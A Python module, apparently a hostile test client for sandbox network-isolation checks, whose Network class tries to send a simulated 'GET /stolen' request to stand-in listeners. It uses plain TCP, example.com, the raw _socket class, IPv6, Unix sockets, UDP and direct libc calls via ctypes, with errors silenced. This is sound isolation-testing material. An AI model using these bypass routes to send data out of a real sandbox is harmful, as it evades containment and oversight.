"""Attempts to reach somebody."""

import ctypes
import socket
import struct
import urllib.request

from hostile_client.targets import LIBC, TARGETS, quietly

MESSAGE = b"GET /stolen HTTP/1.0\r\n\r\n"


class Network:
    """Each method reaches for the same listeners in another way."""

    def connect_by_address(self) -> None:
        for address in TARGETS["addresses"]:
            quietly(self._send, socket.AF_INET, (address, TARGETS["port"]))

    def connect_by_name(self) -> None:
        for name in (*TARGETS["names"], "example.com"):
            quietly(lambda host: socket.create_connection((host, TARGETS["port"]), 2).send(MESSAGE), name)

    def connect_by_original_class(self) -> None:
        import _socket

        for address in TARGETS["addresses"]:
            quietly(self._send_with, _socket.socket(socket.AF_INET, socket.SOCK_STREAM), address)

    def connect_by_version_6(self) -> None:
        quietly(self._send, socket.AF_INET6, ("::1", TARGETS["port6"]))

    def connect_by_unix_socket(self) -> None:
        quietly(self._send, socket.AF_UNIX, TARGETS["unix"])
        quietly(self._send, socket.AF_UNIX, "\0" + TARGETS["abstract"])

    def send_datagram(self) -> None:
        for address in TARGETS["addresses"]:
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            quietly(sock.sendto, MESSAGE, (address, TARGETS["datagrams"]))
            quietly(sock.connect, (address, TARGETS["datagrams"]))
            quietly(sock.send, MESSAGE)

    def connect_by_libc(self) -> None:
        for address in TARGETS["addresses"]:
            packed = struct.pack("=H", socket.AF_INET) + struct.pack("!H", TARGETS["port"])
            self._send_by_libc(socket.AF_INET, packed + socket.inet_aton(address) + bytes(8))

    def connect_to_unix_socket_by_libc(self) -> None:
        for path in (TARGETS["unix"].encode() + b"\0", b"\0" + TARGETS["abstract"].encode()):
            self._send_by_libc(socket.AF_UNIX, struct.pack("=H", socket.AF_UNIX) + path)

    def send_datagram_by_libc(self) -> None:
        for address in TARGETS["addresses"]:
            place = struct.pack("=H", socket.AF_INET) + struct.pack("!H", TARGETS["datagrams"])
            place += socket.inet_aton(address) + bytes(8)
            handle = LIBC.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
            LIBC.sendto(handle, MESSAGE, len(MESSAGE), 0, place, len(place))

    def open_address(self) -> None:
        for address in TARGETS["addresses"]:
            quietly(urllib.request.urlopen, f"http://{address}:{TARGETS['port']}/stolen")

    def _send(self, family: int, place: object) -> None:
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.settimeout(2)
        sock.connect(place)
        sock.send(MESSAGE)

    def _send_with(self, sock: object, address: str) -> None:
        sock.connect((address, TARGETS["port"]))
        sock.send(MESSAGE)

    def _send_by_libc(self, family: int, place: bytes) -> None:
        handle = LIBC.socket(family, socket.SOCK_STREAM, 0)
        if LIBC.connect(handle, ctypes.create_string_buffer(place, len(place)), len(place)) == 0:
            LIBC.write(handle, MESSAGE, len(MESSAGE))
        LIBC.close(handle)
